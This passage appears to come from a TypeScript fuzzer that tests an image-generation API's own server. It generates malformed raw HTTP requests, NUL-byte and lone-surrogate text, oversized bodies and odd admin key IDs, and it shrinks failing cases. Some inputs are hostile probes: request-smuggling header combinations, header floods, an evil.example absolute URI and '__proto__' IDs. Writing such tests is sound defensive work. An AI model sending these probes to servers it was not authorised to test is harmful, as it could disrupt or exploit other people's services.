    'huge_length', 'garbage', 'valid_raw', 'short_body', 'ctl_in_path', 'nul_in_header', 'dup_host', 'no_host', 'utf8_header_value',
  ] as const);
  const post = `POST ${IMAGES_PATH} HTTP/1.1`;
  switch (kind) {
    case 'dup_length':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `Content-Length: ${len}`, `Content-Length: ${len + 1}`]) };
    case 'length_and_chunked':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `Content-Length: ${len}`, 'Transfer-Encoding: chunked']) };
    case 'bad_chunk':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, 'Transfer-Encoding: chunked'], `zz\r\n${body}\r\n0\r\n\r\n`) };
    case 'ctl_in_header':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, 'X-Fuzz: a\u0001b', `Content-Length: ${len}`]) };
    case 'nul_in_header': {
      // The headers whose values are stored (Idempotency-Key, x-request-id) among them.
      const name = r.pick(['X-Fuzz', 'Idempotency-Key', 'X-Request-Id', 'User-Agent']);
      return { label: `${kind}:${name}`, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `${name}: a\u0000b`, `Content-Length: ${len}`]) };
    }
    case 'bad_header_name':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, r.pick(['X Fuzz: 1', 'X-Fü: 1', ': empty', 'X-(): 1']), `Content-Length: ${len}`]) };
    case 'bare_lf':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: Buffer.from(`${[post, ...std, `Content-Length: ${len}`].join('\n')}\n\n${body}`) };
    case 'obs_fold':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, 'X-Fuzz: a', ' folded', `Content-Length: ${len}`]) };
    case 'http10':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([`POST ${IMAGES_PATH} HTTP/1.0`, ...std, `Content-Length: ${len}`]) };
    case 'http2_line':
      return { label: kind, method: 'PRI', path: '*', raw: Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n') };
    case 'bad_version':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([`POST ${IMAGES_PATH} HTTP/${r.pick(['9.9', '1.x', '1.1 extra', '', '0.9'])}`, ...std, `Content-Length: ${len}`]) };
    case 'lower_method':
      return { label: kind, method: 'post', path: IMAGES_PATH, raw: base([`post ${IMAGES_PATH} HTTP/1.1`, ...std, `Content-Length: ${len}`]) };
    case 'unknown_method':
      return { label: kind, method: 'BREW', path: IMAGES_PATH, raw: base([`BREW ${IMAGES_PATH} HTTP/1.1`, ...std, `Content-Length: ${len}`]) };
    case 'header_overflow':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `X-Big: ${'a'.repeat(20_000)}`, `Content-Length: ${len}`]) };
    case 'many_headers':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, ...Array.from({ length: 3000 }, (_, i) => `X-H${i}: ${i}`), `Content-Length: ${len}`]) };
    case 'space_in_path':
      return { label: kind, method: 'POST', path: '/v1/images generations', raw: base(['POST /v1/images generations HTTP/1.1', ...std, `Content-Length: ${len}`]) };
    case 'utf8_path':
      return { label: kind, method: 'GET', path: '/ü/🙂', raw: Buffer.concat([Buffer.from('GET /'), Buffer.from('ü/🙂'), Buffer.from(' HTTP/1.1\r\nHost: fuzz\r\nConnection: close\r\n\r\n')]) };
    case 'ctl_in_path':
      return { label: kind, method: 'GET', path: '/a\u0001b', raw: Buffer.from('GET /a\u0001b HTTP/1.1\r\nHost: fuzz\r\nConnection: close\r\n\r\n') };
    case 'absolute_uri':
      return { label: kind, method: 'POST', path: `http://evil.example${IMAGES_PATH}`, raw: base([`POST http://evil.example${IMAGES_PATH} HTTP/1.1`, ...std, `Content-Length: ${len}`]) };
    case 'options_star':
      return { label: kind, method: 'OPTIONS', path: '*', raw: Buffer.from('OPTIONS * HTTP/1.1\r\nHost: fuzz\r\nConnection: close\r\n\r\n') };
    case 'negative_length':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `Content-Length: ${r.pick(['-1', '1e3', '0x10', ' ', '+5'])}`]) };
    case 'huge_length':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, 'Content-Length: 99999999999999999999']) };
    case 'garbage': {
      const bytes = Buffer.alloc(r.int(1, 300));
      for (let i = 0; i < bytes.length; i++) bytes[i] = r.int(0, 255);
      // Random bytes can be the start of a valid request that never ends: half-closing makes the server decide, and it may just hang up.
      return { label: kind, method: '?', path: '?', raw: bytes, mayHangUp: true };
    }
    case 'short_body':
      // Declares more than it sends and half-closes: an aborted upload.
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `Content-Length: ${len + 100}`]), mayHangUp: true };
    case 'dup_host':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, 'Host: other', `Content-Length: ${len}`]) };
    case 'no_host':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std.slice(1), `Content-Length: ${len}`]) };
    case 'utf8_header_value':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: Buffer.concat([Buffer.from(`${[post, ...std, `Content-Length: ${len}`].join('\r\n')}\r\nX-Name: `), Buffer.from('ユーザー🙂'), Buffer.from(`\r\n\r\n${body}`)]) };
    case 'valid_raw':
      return { label: kind, method: 'POST', path: IMAGES_PATH, raw: base([post, ...std, `Content-Length: ${len}`]) };
  }
}

// ---------------------------------------------------------------- unstorable text

/**
 * Text no database stores as sent: U+0000 (PostgreSQL refuses it) and
 * unpaired UTF-16 surrogates (no UTF-8 form; the drivers store U+FFFD). A
 * high surrogate inserted inside a pair leaves two lone halves.
 */
const UNSTORABLE_PIECES: readonly string[] = ['\u0000', '\u0000\u0000', '\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '\ud83d', '\ude00', '\u0000\ud800'];

/** `base` with unstorable text somewhere in it: alone, at either end, or inside. */
export function withUnstorable(r: Rng, base: string, pieces: readonly string[] = UNSTORABLE_PIECES): string {
  const piece = r.pick(pieces);
  switch (r.pick(['alone', 'start', 'end', 'inside'] as const)) {
    case 'alone':
      return piece;
    case 'start':
      return piece + base;
    case 'end':
      return base + piece;
    case 'inside': {
      const at = r.int(0, base.length);
      return base.slice(0, at) + piece + base.slice(at);
    }
  }
}

/** Every string field of the image route, each with a value the field would otherwise take. */
const IMAGE_TEXT_FIELDS: ReadonlyArray<readonly [string, (r: Rng) => string]> = [
  ['prompt', (r) => r.pick(PROMPTS.filter((p) => p.length < 4000))],
  ['model', () => TURBO],
  ['user', () => 'user-1'],
  ['size', () => '1024x768'],
  ['image_size', () => 'square_hd'],
  ['provider', () => 'fal'],
  ['acceleration', () => 'regular'],
  ['output_format', () => 'png'],
  ['response_format', () => 'url'],
  ['quality', () => 'auto'],
  ['background', () => 'auto'],
  ['moderation', () => 'auto'],
  ['negative_prompt', () => 'blurry'],
  ['loras', (r) => r.pick(LORA_PATHS)],
];

/** Every string field of the admin and usage routes; query and path values are percent-encoded, so only NUL survives decoding. */
const USAGE_TEXT_PARAMS: ReadonlyArray<readonly [string, string]> = [
  ['from', '2025-01-01'], ['to', '2025-01-01T00:00:00Z'], ['model', TURBO], ['key_id', 'static-00000000'], ['group_by', 'day'], ['format', 'csv'],
];
const NUL_PIECES: readonly string[] = ['\u0000', '\u0000\u0000'];

/** A request on any route with unstorable text in one of its string fields: always a 4xx. */
function unstorableCase(r: Rng, base: Obj, opts: GeneratorOptions): Omit<FuzzCase, 'index'> {
  const user = { authorization: `Bearer ${opts.userKey}`, 'content-type': 'application/json' };
  const admin = { authorization: `Bearer ${opts.adminKey}`, 'content-type': 'application/json' };
  const expect = 'refused' as const;
  const route = r.weighted([
    [6, 'images'],
    [2, 'create_key'],
    [2, 'patch_key'],
    [2, 'usage'],
    [1, 'key_path'],
  ] as const);
  switch (route) {
    case 'images': {
      const [field, value] = r.pick(IMAGE_TEXT_FIELDS);
      const text = withUnstorable(r, value(r));
      if (field === 'loras') {
        base.set('model', LORA);
        base.set('loras', [obj({ path: text })]);
      } else {
        base.set(field, text);
      }
      return { label: `unstorable:images.${field}`, method: 'POST', path: IMAGES_PATH, headers: user, body: toJson(base), expect };
    }
    case 'create_key':
    case 'patch_key': {
      const body = keyBody(r);
      const field = r.pick(['name', 'name', 'budget_usd', 'role']);
      body.set(field, withUnstorable(r, field === 'name' ? 'ci key' : field === 'role' ? 'user' : '12.500000'));
      const path = route === 'create_key' ? '/v1/admin/keys' : `/v1/admin/keys/${r.pick(['static-00000000', 'key_missing'])}`;
      return { label: `unstorable:${route}.${field}`, method: route === 'create_key' ? 'POST' : 'PATCH', path, headers: admin, body: toJson(body), expect };
    }
    case 'usage': {
      const [param, value] = r.pick(USAGE_TEXT_PARAMS);
      const mine = r.chance(0.5);
      const path = `${mine ? '/v1/usage' : '/v1/admin/usage'}?${param}=${encodeURIComponent(withUnstorable(r, value, NUL_PIECES))}`;
      return { label: `unstorable:usage.${param}`, method: 'GET', path, headers: { authorization: (mine ? user : admin).authorization }, body: undefined, expect };
    }
    case 'key_path': {
      const id = encodeURIComponent(withUnstorable(r, 'static-00000000', NUL_PIECES));
      const method = r.pick(['GET', 'PATCH', 'DELETE']);
      return { label: `unstorable:key_path.${method}`, method, path: `/v1/admin/keys/${id}`, headers: admin, body: method === 'PATCH' ? '{"enabled":true}' : undefined, expect };
    }
  }
}

// ---------------------------------------------------------------- the case generator

function imagesHeaders(opts: GeneratorOptions): Record<string, string | string[]> {
  return { authorization: `Bearer ${opts.userKey}`, 'content-type': 'application/json' };
}

function applyBodyMutations(r: Rng, body: Obj, count: number): string[] {
  const labels: string[] = [];
  for (let i = 0; i < count; i++) {
    const [, name, mutate] = r.weighted(BODY_MUTATORS.map((m) => [m[0], m] as const));
    labels.push(`${name}(${mutate(r, body)})`);
  }
  return labels;
}

type Kind = 'valid' | 'body' | 'text' | 'headers' | 'route' | 'big' | 'other_routes' | 'unstorable' | 'raw';

const KINDS: ReadonlyArray<readonly [number, Kind]> = [
  [5, 'valid'],
  [38, 'body'],
  [6, 'unstorable'],
  [14, 'text'],
  [16, 'headers'],
  [9, 'route'],
  [1, 'big'],
  [8, 'other_routes'],
  [3, 'raw'],
];

/** Case `index` of the run seeded `seed`. */
export function generateCase(seed: number, index: number, opts: GeneratorOptions): FuzzCase {
  const r = new Rng(caseSeed(seed, index));
  const kind = r.weighted(KINDS);
  const headers = imagesHeaders(opts);
  const base = validRequest(r);

  switch (kind) {
    case 'valid':
      return { index, label: 'valid', method: 'POST', path: IMAGES_PATH, headers, body: toJson(base.body), expect: 'valid', images: base.images };

    case 'body': {
      const labels = applyBodyMutations(r, base.body, r.weighted([
        [6, 1],
        [3, 2],
        [1, 3],
      ] as const));
      return { index, label: `body:${labels.join('+')}`, method: 'POST', path: IMAGES_PATH, headers, body: toJson(base.body) };
    }

    case 'text': {
      if (r.chance(0.3)) applyBodyMutations(r, base.body, 1);
      const [, name, mutate] = r.weighted(TEXT_MUTATORS.map((m) => [m[0], m] as const));
      return { index, label: `text:${name}`, method: 'POST', path: IMAGES_PATH, headers, body: mutate(r, toJson(base.body)) };
    }

    case 'headers': {
      const labels = r.chance(0.3) ? applyBodyMutations(r, base.body, 1) : [];
      const body = { current: toJson(base.body) as Buffer | string };
      for (let i = r.int(1, 3); i > 0; i--) {
        const [, name, mutate] = r.weighted(HEADER_MUTATORS.map((m) => [m[0], m] as const));
        labels.push(`${name}(${mutate(r, headers, body, opts)})`);
      }
      return { index, label: `headers:${labels.join('+')}`, method: 'POST', path: IMAGES_PATH, headers, body: body.current };
    }

    case 'route': {
      const method = r.chance(0.5) ? r.pick(METHODS_NOT_POST) : 'POST';
      const path = method === 'POST' || r.chance(0.5) ? r.pick(ODD_PATHS) : IMAGES_PATH;
      const body = method === 'GET' || method === 'HEAD' ? (r.chance(0.8) ? undefined : toJson(base.body)) : toJson(base.body);
      return { index, label: `route:${method} ${path.slice(0, 60)}`, method, path, headers, body };
    }

    case 'big': {
      const limit = opts.maxBodyBytes ?? 1024 * 1024;
      const size = r.pick([limit - 64, limit + 1, 2 * limit, 10 * 1024 * 1024]);
      const text = toJson(base.body);
      // Whitespace is valid JSON padding, so just-under-the-limit bodies stay valid requests.
      const pad = Math.max(0, size - Buffer.byteLength(text));
      const body = r.chance(0.5)
        ? Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.alloc(pad, 0x20), Buffer.from('}')])
        : Buffer.concat([Buffer.from(text.slice(0, -1) + ',"prompt":"'), Buffer.alloc(pad, 0x61), Buffer.from('"}')]);
      return { index, label: `big:${body.length}`, method: 'POST', path: IMAGES_PATH, headers, body };
    }

    case 'other_routes': {
      const which = r.pick(['usage', 'admin_usage', 'create_key', 'patch_key', 'delete_key', 'get_key', 'list_keys_as_user'] as const);
      const admin = { authorization: `Bearer ${opts.adminKey}`, 'content-type': 'application/json' };
      const id = r.pick(['static-00000000', 'key_missing', '__proto__', 'constructor', '%ZZ', 'x'.repeat(300), '%00', 'a%00b', '%ED%A0%80', 'é']);
      switch (which) {
        case 'usage':
          return { index, label: 'usage', method: 'GET', path: `/v1/usage${usageQuery(r)}`, headers: { authorization: headers['authorization']! }, body: undefined };
        case 'admin_usage':
          return { index, label: 'admin_usage', method: 'GET', path: `/v1/admin/usage${usageQuery(r)}`, headers: { authorization: admin.authorization }, body: undefined };
        case 'create_key':
          return { index, label: 'create_key', method: 'POST', path: '/v1/admin/keys', headers: admin, body: toJson(keyBody(r)) };
        case 'patch_key':
          return { index, label: 'patch_key', method: 'PATCH', path: `/v1/admin/keys/${id}`, headers: admin, body: toJson(keyBody(r)) };
        case 'delete_key':
          return { index, label: 'delete_key', method: 'DELETE', path: `/v1/admin/keys/${id}`, headers: admin, body: undefined };
        case 'get_key':
          return { index, label: 'get_key', method: 'GET', path: `/v1/admin/keys/${id}`, headers: admin, body: undefined };
        case 'list_keys_as_user':
          return { index, label: 'list_keys_as_user', method: 'GET', path: '/v1/admin/keys', headers: { authorization: headers['authorization']! }, body: undefined };
      }
      break;
    }

    case 'unstorable':
      return { index, ...unstorableCase(r, base.body, opts) };

    case 'raw': {
      const raw = rawRequest(r, opts);
      return { index, label: `raw:${raw.label}`, method: raw.method, path: raw.path, headers: {}, body: undefined, raw: raw.raw, mayHangUp: raw.mayHangUp };
    }
  }
  throw new Error(`unreachable case kind ${kind}`);
}

/**
 * Smaller variants of a JSON-object body: each top-level entry dropped, then
 * long strings halved. The runner keeps any variant that still fails the
 * same way, so a report shows the least request that shows the bug.
 */
export function* shrinkCandidates(c: FuzzCase): Generator<FuzzCase> {
  if (c.raw || c.body === undefined) return;
  const text = Buffer.isBuffer(c.body) ? c.body.toString('utf8') : c.body;
  if (Buffer.isBuffer(c.body) && !Buffer.from(text).equals(c.body)) return;
  let parsed: unknown;
  try {
    parsed = JSON.parse(text);
  } catch {
    if (text.length > 1) yield { ...c, body: text.slice(0, Math.ceil(text.length / 2)) };
    return;
  }
  if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed)) return;
  const entries = Object.entries(parsed);
  // JSON.stringify recurses, so a value nested deeper than the stack cannot be rebuilt; those candidates are skipped.
  const encode = (v: unknown): string | undefined => {
    try {
      return JSON.stringify(v);
    } catch {
      return undefined;
    }
  };
  const rebuild = (es: Array<[string, unknown]>): string | undefined => {
    const parts: string[] = [];
    for (const [k, v] of es) {
      const text = encode(v);
      if (text === undefined) return undefined;
      parts.push(`${JSON.stringify(k)}:${text}`);
    }
    return `{${parts.join(',')}}`;
  };
  for (let i = 0; i < entries.length; i++) {
    const body = rebuild(entries.filter((_, j) => j !== i));
    if (body !== undefined) yield { ...c, body };
  }
  for (let i = 0; i < entries.length; i++) {
    const [k, v] = entries[i]!;
    if (typeof v === 'string' && v.length > 16) {
      const body = rebuild(entries.map((e, j) => (j === i ? [k, v.slice(0, Math.ceil(v.length / 2))] : e)));
      if (body !== undefined) yield { ...c, body };
    }
  }
}
